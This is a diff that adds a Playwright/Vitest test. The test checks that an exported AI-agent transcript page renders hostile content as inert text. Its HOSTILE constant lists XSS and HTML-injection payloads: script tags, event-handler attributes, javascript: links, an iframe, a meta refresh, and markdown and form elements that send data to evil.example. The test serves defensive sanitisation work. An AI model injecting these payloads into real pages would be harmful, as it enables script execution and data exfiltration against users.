@@ -1,0 +1,104 @@
+// An exported transcript in a real browser: what a hostile agent wrote is text there, and the page does and fetches nothing.
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import { HTML_END, htmlHead, htmlOf, type TranscriptEntry } from '@quayside/protocol'
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { launchBrowser, openPage, SCREENS } from './test-browser.js'
+
+const HOSTILE = [
+  '<script>alert(1)</script></style></title><img src=x onerror=alert(2)>',
+  '</div></section><iframe srcdoc="<script>alert(3)</script>"></iframe><svg onload=alert(4)>',
+  '![x](https://evil.example/?q=secret) [click](javascript:alert(5)) https://evil.example/"onclick="alert(6)',
+  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=//evil.example>',
+  '```html\n</code></pre><object data=//evil.example></object>\n```\n<form action=//evil.example><input autofocus onfocus=alert(7)>',
+].join('\n')
+
+const timestamp = '2026-01-17T05:00:00.000Z'
+const ENTRIES: readonly TranscriptEntry[] = [
+  { role: 'user', text: HOSTILE, by: HOSTILE, timestamp },
+  { role: 'reasoning', text: HOSTILE, timestamp },
+  { role: 'assistant', text: HOSTILE, timestamp },
+  {
+    role: 'attachment',
+    attachment: { type: 'image', mimeType: HOSTILE, url: '/x.png' },
+    timestamp,
+  },
+  { role: 'attachment', attachment: { type: 'resource', uri: HOSTILE, text: HOSTILE }, timestamp },
+  {
+    role: 'command',
+    command: HOSTILE,
+    output: HOSTILE,
+    status: HOSTILE,
+    kind: 'execute',
+    diffs: [{ path: HOSTILE, oldText: 'a\nb\n', newText: `a\n${HOSTILE}\n` }],
+    timestamp,
+  },
+  { role: 'plan', entries: [{ content: HOSTILE, status: HOSTILE }], timestamp },
+  {
+    role: 'permission',
+    title: HOSTILE,
+    options: [],
+    outcome: 'selected',
+    option: HOSTILE,
+    timestamp,
+  },
+  { role: 'status', status: 'error', error: { code: 'x', message: HOSTILE }, timestamp },
+  { role: 'error', text: HOSTILE, code: HOSTILE, timestamp },
+]
+
+let browser: Browser
+let folder: string
+beforeAll(async () => {
+  folder = mkdtempSync(join(tmpdir(), 'quayside-page-'))
+  browser = await launchBrowser()
+}, 180_000)
+afterAll(async () => {
+  await browser?.close()
+  rmSync(folder, { recursive: true, force: true })
+})
+
+test.each(['light', 'dark'] as const)(
+  'a hostile session is text in a %s page',
+  async (colorScheme) => {
+    const path = join(folder, `${colorScheme}.html`)
+    const body = ENTRIES.map((entry) => htmlOf(entry)).join('')
+    writeFileSync(
+      path,
+      htmlHead({ sessionId: 'f00', title: HOSTILE, agent: HOSTILE }) + body + HTML_END,
+    )
+    const { page, faults } = await openPage(browser, 'null', { ...SCREENS.desktop, colorScheme })
+    const dialogs: string[] = []
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message())
+      void dialog.dismiss()
+    })
+    await page.goto(pathToFileURL(path).href, { waitUntil: 'networkidle' })
+
+    const found = await page.evaluate(() => {
+      const all = [...document.querySelectorAll('*')]
+      return {
+        tags: [...new Set(all.map(({ localName }) => localName))].toSorted(),
+        handlers: all
+          .flatMap(({ attributes }) => [...attributes].map(({ name }) => name))
+          .filter((name) => name.startsWith('on')),
+        links: [...document.links].map(({ href, rel }) => `${rel} ${new URL(href).protocol}`),
+        said: [...document.querySelectorAll('.text')].map(({ textContent }) => textContent),
+        isWide: document.documentElement.scrollWidth > innerWidth,
+        ground: getComputedStyle(document.body).backgroundColor,
+      }
+    })
+    expect(
+      found.tags.filter((tag) => /^(?:script|iframe|svg|img|object|form|input|base)$/.test(tag)),
+    ).toEqual([])
+    expect(found.handlers).toEqual([])
+    expect(new Set(found.links)).toEqual(new Set(['noopener noreferrer nofollow https:']))
+    expect(found.said).toEqual(Array.from({ length: 4 }, () => HOSTILE))
+    expect(found.isWide).toBe(false)
+    expect(found.ground).toBe(colorScheme === 'dark' ? 'rgb(20, 24, 30)' : 'rgb(255, 255, 255)')
+    expect(dialogs).toEqual([])
+    expect(faults).toEqual([])
+  },
+)
